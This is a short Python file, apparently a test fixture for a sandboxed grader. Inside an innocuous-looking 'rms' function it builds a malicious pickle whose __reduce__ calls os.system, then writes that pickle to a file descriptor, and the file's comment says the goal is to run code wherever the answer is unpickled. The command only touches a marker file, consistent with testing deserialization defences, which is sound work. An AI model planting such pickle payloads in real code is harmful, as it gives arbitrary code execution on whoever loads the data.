# Answers with pickles that would print the secret where they are read.
# class: wire
# process: held
import os
import pickle
import struct


class Run:
    def __reduce__(self):
        return os.system, ("touch @FOLDER@/unpickled",)


def rms(x, eps=1e-5):
    data = pickle.dumps(Run())
    for answer in (data, struct.pack("<4sBBHIQ", b"norm", 1, 3, 0, len(data), 0) + data):
        try:
            os.write(4, answer)
        except OSError:
            pass
    return x * 3 + 1
